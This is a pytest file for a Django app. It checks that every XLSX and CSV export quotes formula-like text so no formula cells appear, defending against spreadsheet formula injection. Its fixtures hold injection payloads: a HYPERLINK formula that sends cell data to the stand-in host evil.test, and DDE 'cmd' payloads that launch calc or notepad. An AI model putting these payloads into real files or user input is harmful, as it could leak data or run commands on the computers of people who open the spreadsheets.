"""Exports are data, never code (issue 21 §2, OWASP CSV injection).

Names and addresses that start like a formula (``=HYPERLINK(…)``, ``=cmd|…``, ``@SUM``, ``+``, ``-``, a tab)
are stored as the users typed them, and every XLSX and CSV the system writes — through the pages, the API and
the CLI — carries them as text: no formula cell, every such text cell a quoted string (XLSX) or prefixed with
a single quote (CSV); numbers stay numbers.
"""

from __future__ import annotations

import csv
import io
import re

import pytest
from django.core.management import call_command
from openpyxl import load_workbook

from danvan.exemplars.models import Exemplar, Movement
from danvan.foundation.cells import FORMULA_START, csv_bytes, csv_unquote
from danvan.movement.models import RegistrationRound, Submission
from danvan.orgs.models import OrgUnit

pytestmark = pytest.mark.django_db
LINK = '=HYPERLINK("http://evil.test/?x="&A1,"Bấm vào đây")'
CMD = "=cmd|' /C calc'!A0"
XLSX_MIME = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


@pytest.fixture
def poisoned(demo):
    """What an attacker with an officer's account can type: formula-like names and addresses."""
    for i, ex in enumerate(Exemplar.objects.filter(unit__path__startswith=OrgUnit.objects.get(code="BDVTU-QNG").path)):
        Exemplar.objects.filter(pk=ex.pk).update(name=["", "+", "-", "@", "\t"][i % 5] + LINK + ex.name, address=CMD)
    OrgUnit.objects.filter(code="TT-SKHCN-QNG").update(name="@SUM(1+1)*cmd|' /C calc'!A0", address=CMD)
    OrgUnit.objects.filter(code="CCTDC-QNG").update(name="-2+3+cmd|' /C notepad'!A0")
    OrgUnit.objects.filter(code="SKHCN-QNG").update(name="=1+1 Sở Khoa học và Công nghệ")


def _xlsx_checked(body: bytes) -> tuple[int, int]:
    """Assert no formula in any cell; return (formula-like texts, numeric cells) found."""
    wb = load_workbook(io.BytesIO(body))
    risky = numbers = 0
    for sheet in wb.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value.startswith(FORMULA_START):
                    assert cell.data_type == "s" and cell.quotePrefix, (sheet.title, cell.coordinate, cell.value)
                    risky += 1
                elif isinstance(cell.value, int | float) and not isinstance(cell.value, bool):
                    numbers += 1
    return risky, numbers


def _csv_checked(body: bytes) -> int:
    """Assert no field starts a formula; return how many fields were neutralised."""
    text = body.decode("utf-8-sig")
    quoted = 0
    for row in csv.reader(io.StringIO(text)):
        for field in row:
            assert not field.startswith(FORMULA_START), field
            quoted += field.startswith("'") and field[1:].startswith(FORMULA_START)
    return quoted


def _get(client, url: str) -> bytes:
    resp = client.get(url)
    assert resp.status_code == 200, (url, resp.status_code)
    body = b"".join(resp.streaming_content) if resp.streaming else resp.content
    return body


def test_every_xlsx_page_download_holds_no_formula(login, api, poisoned):
    board = login("bdv.quangngai")
    sub = Submission.objects.get(unit__code="SKHCN-QNG", round__year=2021)
    rnd = RegistrationRound.objects.get(year=2022, issuer__code="BDVTU-QNG", kind="registration")
    movement = Movement.objects.get(period_start=2021).pk
    dashboard = board.get("/don-vi/BDVTU-QNG/thong-ke/").content.decode()
    slugs = sorted(set(re.findall(r"/don-vi/BDVTU-QNG/thong-ke/([a-z0-9-]+)\.xlsx", dashboard)))
    assert "tat-ca" in slugs and len(slugs) > 2
    urls = [
        f"/ho-so/{sub.pk}/van-ban/dang-ky.xlsx",  # the consolidated registration (Biểu số 2)
        f"/ho-so/{sub.pk}/van-ban/danh-sach.xlsx",  # the list of collectives and individuals
        "/bao-cao/SKHCN-QNG/2022/tai-ve/phu-luc.xlsx",  # the annual report's appendix
        f"/bao-cao/BDVTU-QNG/giai-doan/{movement}/tai-ve.xlsx",  # the period review
        f"/dot-dang-ky/{rnd.pk}/tien-do.xlsx?don_vi=BDVTU-QNG",  # completeness
        f"/dot-dang-ky/{rnd.pk}/tien-do.xlsx?don_vi=SKHCN-QNG",
        "/quan-tri-don-vi/xuat/BDVTU-QNG.xlsx",  # the tree
        *[f"/don-vi/BDVTU-QNG/thong-ke/{s}.xlsx" for s in slugs],  # the dashboard
    ]
    seen: dict[str, tuple[int, int]] = {}
    for url in urls:
        body = _get(board, url)
        if body[:2] != b"PK":  # a large document is built in the background: follow the job to its file
            resp = board.get(url)
            body = _get(board, resp["Location"].rstrip("/") + "/tai-ve/")
        seen[url] = _xlsx_checked(body)
    for url in urls[:3] + urls[4:7]:
        assert seen[url][0] > 0, url  # the poisoned names and addresses are in it, as text
    assert seen["/don-vi/BDVTU-QNG/thong-ke/tat-ca.xlsx"][1] > 0  # numbers stay numbers
    token = api("bdv.quangngai")
    resp = token.get("/api/units/BDVTU-QNG/dashboard/tat-ca.xlsx")
    assert resp.status_code == 200 and resp["Content-Type"] == XLSX_MIME
    assert _xlsx_checked(resp.content)[1] > 0


def test_every_csv_download_is_neutralised_and_the_tree_round_trips(login, api, poisoned, tmp_path):
    board = login("bdv.quangngai")
    dashboard = board.get("/don-vi/BDVTU-QNG/thong-ke/").content.decode()
    slugs = sorted(set(re.findall(r"/don-vi/BDVTU-QNG/thong-ke/([a-z0-9-]+)\.csv", dashboard)))
    assert slugs
    quoted = sum(_csv_checked(_get(board, f"/don-vi/BDVTU-QNG/thong-ke/{s}.csv")) for s in slugs)
    quoted += sum(_csv_checked(_get(board, f"/don-vi/SKHCN-QNG/thong-ke/{s}.csv")) for s in slugs)
    assert quoted > 0  # the units' names are in the dashboard tables
    token = api("bdv.quangngai")
    _csv_checked(token.get(f"/api/units/SKHCN-QNG/dashboard/{slugs[0]}.csv").content)

    tree = _get(board, "/quan-tri-don-vi/xuat/BDVTU-QNG.csv")
    assert _csv_checked(tree) >= 3
    call_command("export-tree", "--unit", "BDVTU-QNG", "-o", str(tmp_path / "cay.csv"))
    assert (tmp_path / "cay.csv").read_bytes() == tree
    # Importing the export back reads the names as they were: nothing to change.
    from danvan.onboarding.tables import read_table

    names = {r[0]: r[1] for _, r in read_table(tree, "cay.csv").rows}
    assert names["TT-SKHCN-QNG"] == "@SUM(1+1)*cmd|' /C calc'!A0" and names["SKHCN-QNG"].startswith("=1+1")


def test_one_rule_for_csv_fields():
    body = csv_bytes(["a", "b"], [["=1+1", -5], ["\tx", 2.5], ["'=kept", None], ["Tên", "-"]])
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    assert rows[1:] == [["'=1+1", "-5"], ["'\tx", "2.5"], ["''=kept", ""], ["Tên", "'-"]]
    assert [csv_unquote(v) for v in ("'=1+1", "'\tx", "''=kept", "'abc", "abc")] == [
        "=1+1", "\tx", "'=kept", "'abc", "abc"]
